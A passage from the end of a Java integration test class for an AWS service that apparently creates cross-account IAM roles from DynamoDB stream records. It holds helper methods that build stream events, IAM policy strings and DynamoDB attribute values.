    private static ObjectNode validRecord(String grantId, String roleName) {
        ObjectNode image = JSON.createObjectNode();
        image.set("grantId", s(grantId));
        image.set("roleName", s(roleName));
        image.set("targets", l(s(GOOD_ACCOUNT)));
        image.set("trustedPrincipals", l(s("arn:aws:iam::" + GRANTEE + ":root")));
        image.set("requireMfa", bool(true));
        image.set("maxSessionDuration", n("3600"));
        image.set("inlinePolicy", s(POLICY));
        image.set("managedPolicyArns", l(s("arn:aws:iam::aws:policy/ReadOnlyAccess")));
        image.set("tags", m("team", s("platform")));
        ObjectNode keys = JSON.createObjectNode();
        keys.set("grantId", s(grantId));
        return streamRecord(keys, image);
    }

    /** One INSERT record as DynamoDB Streams delivers it to Lambda. */
    private static ObjectNode streamRecord(ObjectNode keys, ObjectNode newImage) {
        BigInteger sequence = SEQUENCE.updateAndGet(s -> s.add(BigInteger.ONE));
        ObjectNode record = JSON.createObjectNode();
        record.put("eventID", sequence.toString(16));
        record.put("eventName", "INSERT");
        record.put("eventVersion", "1.1");
        record.put("eventSource", "aws:dynamodb");
        record.put("awsRegion", "us-east-1");
        ObjectNode dynamodb = record.putObject("dynamodb");
        dynamodb.put("ApproximateCreationDateTime", 1795000000);
        dynamodb.set("Keys", keys);
        if (newImage != null) {
            dynamodb.set("NewImage", newImage);
        }
        dynamodb.put("SequenceNumber", sequence.toString());
        dynamodb.put("SizeBytes", 200);
        dynamodb.put("StreamViewType", newImage == null ? "KEYS_ONLY" : "NEW_AND_OLD_IMAGES");
        record.put("eventSourceARN", "arn:aws:dynamodb:us-east-1:123456789012:table/GrantsTable/stream/2026-11-22T00:00:00.000");
        return record;
    }

    /**
     * Writes each record's image to the Grants table, as it was when the stream emitted it (an image whose grantId is
     * not its key's string cannot be an item, so it is not written), then reads the batch's JSON text with the
     * serializer the Lambda Java runtime uses.
     */
    private DynamodbEvent event(ObjectNode... records) {
        for (ObjectNode r : records) {
            JsonNode key = r.path("dynamodb").path("Keys").path("grantId").path("S");
            JsonNode image = r.path("dynamodb").path("NewImage");
            if (key.isTextual() && !key.asText().isEmpty() && image.path("grantId").path("S").asText().equals(key.asText())) {
                Map<String, AttributeValue> item = new LinkedHashMap<>();
                image.fields().forEachRemaining(f -> item.put(f.getKey(), attribute(f.getValue())));
                crossrole.dynamo().putItem(p -> p.tableName(crossrole.config().grantsTable()).item(item));
            }
        }
        ObjectNode root = JSON.createObjectNode();
        ArrayNode list = root.putArray("Records");
        for (ObjectNode r : records) {
            list.add(r);
        }
        byte[] bytes = root.toString().getBytes(StandardCharsets.UTF_8);
        return LambdaEventSerializers.serializerFor(DynamodbEvent.class, BadInputCorpusIT.class.getClassLoader())
                .fromJson(new ByteArrayInputStream(bytes));
    }

    /** The stream delivers the batch; the worker drains what it queued. */
    private StreamsEventResponse deliver(DynamodbEvent event) {
        StreamsEventResponse response = handler.handleRequest(event, null);
        crossrole.drain();
        return response;
    }

    private List<String> iamCalls() {
        return crossrole.calls().all().stream().filter(c -> c.startsWith("Iam:")).toList();
    }

    /** A valid permissions policy with no white space, over IAM's 10,240 characters: 400 resources of 30 characters. */
    private static String bigInlinePolicy() {
        String resources = IntStream.range(0, 400).mapToObj(k -> "\"arn:aws:s3:::bucket-%04d/*\"".formatted(k))
                .collect(Collectors.joining(","));
        return "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"s3:GetObject\",\"Resource\":["
                + resources + "]}]}";
    }

    /**
     * The size of the trust policy Crossrole writes for {@code count} account principals
     * {@code arn:aws:iam::2222222222NN:root} (30 characters, 32 quoted), one statement, no white space.
     */
    private static int trustPolicySize(int count) {
        String open = "{\"Version\":\"2012-10-17\",\"Statement\":{\"Effect\":\"Allow\",\"Principal\":{\"AWS\":[";
        String close = "]},\"Action\":\"sts:AssumeRole\"}}";
        return open.length() + count * 32 + (count - 1) + close.length();
    }

    // ------------------------------------------------------------------ DynamoDB JSON

    /** DynamoDB JSON as the SDK's attribute value, every type kept as it is. */
    private static AttributeValue attribute(JsonNode v) {
        String type = v.fieldNames().next();
        JsonNode x = v.get(type);
        return switch (type) {
            case "S" -> AttributeValue.fromS(x.asText());
            case "N" -> AttributeValue.fromN(x.asText());
            case "BOOL" -> AttributeValue.fromBool(x.asBoolean());
            case "NULL" -> AttributeValue.fromNul(true);
            case "B" -> AttributeValue.fromB(SdkBytes.fromByteArray(Base64.getDecoder().decode(x.asText())));
            case "SS" -> AttributeValue.fromSs(strings(x));
            case "NS" -> AttributeValue.fromNs(strings(x));
            case "L" -> {
                List<AttributeValue> items = new ArrayList<>();
                x.forEach(e -> items.add(attribute(e)));
                yield AttributeValue.fromL(items);
            }
            case "M" -> {
                Map<String, AttributeValue> map = new LinkedHashMap<>();
                x.fields().forEachRemaining(f -> map.put(f.getKey(), attribute(f.getValue())));
                yield AttributeValue.fromM(map);
            }
            default -> throw new IllegalArgumentException("DynamoDB type " + type);
        };
    }

    private static List<String> strings(JsonNode array) {
        List<String> out = new ArrayList<>();
        array.forEach(e -> out.add(e.asText()));
        return out;
    }

    static ObjectNode s(String v) {
        return JSON.createObjectNode().put("S", v);
    }

    static ObjectNode n(String v) {
        return JSON.createObjectNode().put("N", v);
    }

    static ObjectNode bool(boolean v) {
        return JSON.createObjectNode().put("BOOL", v);
    }

    static ObjectNode nul() {
        return JSON.createObjectNode().put("NULL", true);
    }

    static ObjectNode b(String base64) {
        return JSON.createObjectNode().put("B", base64);
    }

    static ObjectNode l(JsonNode... items) {
        ObjectNode node = JSON.createObjectNode();
        ArrayNode list = node.putArray("L");
        for (JsonNode item : items) {
            list.add(item);
        }
        return node;
    }

    static ObjectNode ss(String... items) {
        ObjectNode node = JSON.createObjectNode();
        ArrayNode list = node.putArray("SS");
        for (String item : items) {
            list.add(item);
        }
        return node;
    }

    static ObjectNode ns(String... items) {
        ObjectNode node = JSON.createObjectNode();
        ArrayNode list = node.putArray("NS");
        for (String item : items) {
            list.add(item);
        }
        return node;
    }

    /** {@code m("k1", v1, "k2", v2, …)}. */
    static ObjectNode m(Object... keysAndValues) {
        ObjectNode node = JSON.createObjectNode();
        ObjectNode map = node.putObject("M");
        for (int k = 0; k < keysAndValues.length; k += 2) {
            map.set((String) keysAndValues[k], (JsonNode) keysAndValues[k + 1]);
        }
        return node;
    }
}
